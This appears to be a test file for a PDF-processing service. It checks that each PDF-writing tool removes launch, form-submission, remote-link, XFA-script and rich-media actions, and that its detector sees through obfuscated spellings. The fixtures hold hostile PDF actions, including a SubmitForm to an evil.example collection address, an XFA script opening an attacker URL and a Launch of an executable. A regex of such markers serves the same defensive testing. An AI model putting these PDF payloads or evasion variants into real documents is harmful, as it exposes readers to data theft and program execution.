/** Actions, XFA forms and media that a PDF may contain, in the results of every tool that writes PDFs; read by qpdf. */
import { expect, test } from 'bun:test'
import { handMade, isSound, pagesOf, plainPdf, qpdfMade, run, stream } from '../../../support/formats/pdfs.ts'
import { runTool } from '../../../support/workers/engine.ts'

const FIELD = '<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [9 90 99 99] /P 4 0 R >>'
/** Files with an action in different places: outline, catalog, page, annotations, chained actions. */
const acting = handMade([
  '<< /Type /Catalog /Pages 2 0 R /Outlines 10 0 R /OpenAction << /S /Launch /F (c:/calc.exe) >> /NeedsRendering true /AcroForm << /Fields [6 0 R] /DA (/Helv 0 Tf 0 g) /XFA [(template) 7 0 R (datasets) 8 0 R] >> >>',
  '<< /Type /Pages /Count 2 /Kids [3 0 R 4 0 R] >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /AA << /O << /S /GoToR /F (//host/share/x.pdf) /D [0 /Fit] >> /C 5 0 R >> >>',
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] /Annots [6 0 R
    << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/kept) /Next [<< /S /ImportD#61ta /F (data.fdf) >> << /S /Named /N /NextPage >>] >> >>
    << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S 9 0 R /F (x.exe) >> >>
    << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Named /N /Print >> >>
    << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] /Next << /S /GoToE /T << /R /C >> >> >> >>
    << /Type /Annot /Subtype /Link /Rect [0 0 9 9] /PA << /S /VendorAction >> >>
    << /Type /Annot /Subtype /Screen /Rect [0 0 9 9] /A << /S /Rendition /OP 0 >> >>
    << /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] /RichMediaContent << /Assets << /Names [] >> >> >>
    << /Type /Annot /Subtype /Movie /Rect [0 0 9 9] /Movie << /F (//host/film.mov) >> >>] >>`,
  '<< /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Next << /S /Hide /T (name) >> >>',
  FIELD,
  stream('<template><script>app.launchURL("https://evil.example")</script></template>'),
  stream('<xfa:datasets/>'),
  '/Launch',
  '<< /Type /Outlines /Count 1 /First 11 0 R /Last 11 0 R >>',
  '<< /Title (Outline) /Parent 10 0 R /A << /S /SetOCGState /State [] >> >>',
])
const GONE = [
  'GoToE',
  'GoToR',
  'Hide',
  'ImportData',
  'Launch',
  'Print',
  'Rendition',
  'SetOCGState',
  'SubmitForm',
  'VendorAction',
]
const WARNINGS = [
  'The XFA version of the form was removed with its scripts.',
  'Rich media were removed from the file.',
  `These actions were removed from the file: ${GONE.join(', ')}.`,
]
const ACTIVE =
  /\/(GoTo[RE]|ImportData|Launch|Print|Rendition|SetOCGState|SubmitForm|Hide|VendorAction|XFA|RichMediaContent|Movie <<)\b|evil\.example|app\.launch|share\/x|film\.mov|\.exe/

const WRITERS: [tool: string, input: Record<string, unknown>][] = [
  ['split-pdf', { ranges: '1-2' }],
  ['rotate-pages', { operations: { rotations: { 0: 90 } } }],
  ['pdf-watermark', { text: 'Draft' }],
  ['pdf-watermark', { wm_mode: 'image', logo: 'logo.png' }],
  ['compress-pdf', {}],
  ['document-sign', { signature: 'logo.png', placements: [{ page: 0, x: 0, y: 0, w: 0.5, h: 0.5 }] }],
  ['fill-pdf', { values: { name: 'A' } }],
  ['merge-pdf', {}],
  ['ocr', { lang: 'eng', result: 'pdf' }],
]

test.each(WRITERS)('%s keeps only actions that stay in the file or show an address', async (tool, input) => {
  // in object streams too
  for (const mode of ['disable', 'generate']) {
    const file = qpdfMade(`--object-streams=${mode}`, acting.path)
    const files = tool === 'merge-pdf' ? { files: [plainPdf(['x']), file] } : { file }
    const { path, warnings } = await runTool(`document.${tool}`, { ...files, ...input })
    expect({ mode, warnings: warnings.filter((sentence) => WARNINGS.includes(sentence)) }).toEqual({
      mode,
      warnings: WARNINGS,
    })
    const objects = run('qpdf', '--qdf', '--object-streams=disable', path, '-')
    expect({ mode, found: ACTIVE.exec(objects)?.[0] }).toEqual({ mode, found: undefined })
    for (const kept of ['https://example.org/kept', '/NextPage', '/S /GoTo']) expect(objects).toContain(kept)
    expect(isSound(path)).toBe(true)
    expect(pagesOf(path).length).toBeGreaterThanOrEqual(2)
    const { acroform } = JSON.parse(run('qpdf', '--json', '--json-key=acroform', path)) as {
      acroform: { fields: { fullname: string }[] }
    }
    expect(acroform.fields.map(({ fullname }) => fullname)).toEqual(['name'])
  }
})

test('an action is found wherever it is hidden, and usual types of structure do not count as actions', async () => {
  const typeIs = (type: string, more: string[] = []) =>
    handMade([
      `<< /Type /Catalog /Pages 2 0 R /OpenAction << ${type} /F (a) >> >>`,
      '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
      '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 300] >>',
      ...more,
    ])
  for (const type of [
    '/S/Launch',
    `/S${' '.repeat(200)}/Launch`,
    '/S%\n/Launch',
    '/S 4 0 R',
    `/S 4${' '.repeat(99)}0 R`,
    '/#53 /Launch',
    '/S\0/Launch',
  ]) {
    const { path, warnings } = await runTool('document.split-pdf', { file: typeIs(type, ['/Launch']), ranges: '1' })
    expect({ type, warnings }).toEqual({ type, warnings: ['These actions were removed from the file: Launch.'] })
    expect(run('qpdf', '--qdf', path, '-')).not.toContain('OpenAction')
  }
  for (const type of ['/S /GoTo /D [3 0 R /Fit]', '/S /URI /URI (https://example.org)']) {
    const { path, warnings } = await runTool('document.split-pdf', { file: typeIs(type), ranges: '1' })
    expect({ type, warnings }).toEqual({ type, warnings: [] })
    expect(run('qpdf', '--qdf', path, '-')).toContain('OpenAction')
  }
})
